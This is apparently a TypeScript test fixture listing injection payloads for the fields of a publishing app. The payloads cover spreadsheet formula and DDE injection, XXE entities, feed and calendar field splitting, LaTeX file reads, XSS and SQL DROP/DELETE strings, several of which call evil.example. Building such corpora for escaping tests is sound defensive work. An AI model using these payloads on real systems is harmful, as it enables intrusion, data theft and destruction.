import { at, type AttackClass } from '../attack.ts';

/** What a spreadsheet would run. */
export const tableAttacks: AttackClass = {
  name: 'a formula in a table',
  kind: 'content',
  attacks: [
    ...at(
      'title',
      '=HYPERLINK("https://evil.example/§","x")',
      "=cmd|' /C calc'!A0",
      "+1+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+9)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      '＝1+1',
      "'=1+1",
      'x","=1+1',
      'x\n=1+1',
    ),
    ...at('speaker', '=WEBSERVICE("https://evil.example/§")', '@x', '-x', '+x'),
    ...at('topic', '=1+1', '\u00a0=1+1', '=IMPORTXML("https://evil.example/§","//a")'),
    ...at('words', '=1+1', '\\-1+1 were lost.', '\\+1 ship.'),
    ...at('headline', '=1+1', '"=1+1"', '"",=1+1'),
    ...at('publisher', '=1+1', '%0A=1+1'),
  ],
};

/** What would end a part of an XML file, or of a book. */
export const xmlAttacks: AttackClass = {
  name: 'breaks of XML and EPUB',
  kind: 'content',
  attacks: [
    ...at(
      'title',
      ']]><x>',
      '<![CDATA[<script xmlns="http://www.w3.org/1999/xhtml">alert(§)</script>]]>',
      '<!DOCTYPE a [<!ENTITY b SYSTEM "https://evil.example/§">]>&b;',
      '<?xml-stylesheet href="https://evil.example/§"?>',
      '</title><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(§)</x:script>',
      '&lt;&amp;&nbsp;&eacute;',
      'a\ufffe b\uffff',
      'a\u{1ffff} b',
      'a\u000b b\u000c c',
      '--> <!-- --',
    ),
    ...at(
      'words',
      ']]> & <x> &b; ends.',
      '\\<script xmlns="http://www.w3.org/1999/xhtml">alert(§)\\</script>',
      'a &nbsp; b &zwnj; c',
    ),
    ...at('speaker', '<b>Kornev ]]> & Söhne</b>', '</dc:creator><x/>', '"/><x y="'),
    ...at('topic', '</dc:subject>&', '"><x/>', ']]>'),
    ...at(
      'address',
      'https://news.example/§?a=<b>&c=]]>',
      'https://news.example/§?a="b"',
      "https://news.example/§?a='&amp;b",
    ),
  ],
};

/** What would end a field of a feed, a calendar or a citation and begin another. */
export const feedAttacks: AttackClass = {
  name: 'breaks of feeds, calendars and citations',
  kind: 'content',
  attacks: [
    ...at(
      'title',
      'x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:y',
      'x\r\nATTACH:https://evil.example/§',
      'x;y,z\\n\\\\:w',
      '</entry><entry><id>x</id></entry>',
      '</item><item><title>x</title></item>',
      'x\nER  - \nTY  - NEWS',
      '}, url = {https://evil.example/§',
      '\\input{/etc/passwd} \\write18{x}',
      '|url=https://evil.example/§}}{{x',
      '</ref><script>alert(§)</script>',
      'x\u2028BEGIN:VEVENT',
    ),
    ...at('occasion', 'x\nDTSTART:20000101', '\\', 'x"\\;'),
    ...at('place', 'x\nURL:https://evil.example/§', 'x\rBEGIN:VALARM'),
    ...at('speaker', 'x\nAU  - y', '{x} and {y}', '|author=x'),
  ],
};

/** What would end the data in a page, or in a file of linked data, or in a table of the database. */
export const linkedDataAttacks: AttackClass = {
  name: 'breaks of linked data',
  kind: 'content',
  attacks: [
    ...at(
      'title',
      '</script><script>alert(§)</script>',
      '<!--<script>',
      '</ScRiPt\n><img src=x onerror=alert(§)>',
      '","@id":"https://evil.example/§","x":"',
      '\u2028\u2029',
      '\\u003c/script\\u003e<script>alert(§)</script>',
      "'); DROP TABLE statements; --",
    ),
    ...at('topic', '" . <https://evil.example/§> a <x', '"""@en', '\\" .\n<x>', "'''", "x'); DELETE FROM topics; --"),
    ...at('topic in Arabic', '"@ar . <x> <y> <z', '</script><script>alert(§)</script>'),
    ...at('speaker', '</script><svg onload=alert(§)>', '<!--<script>x', '\\'),
    ...at('strapline', '</script><script>alert(§)</script>'),
  ],
};
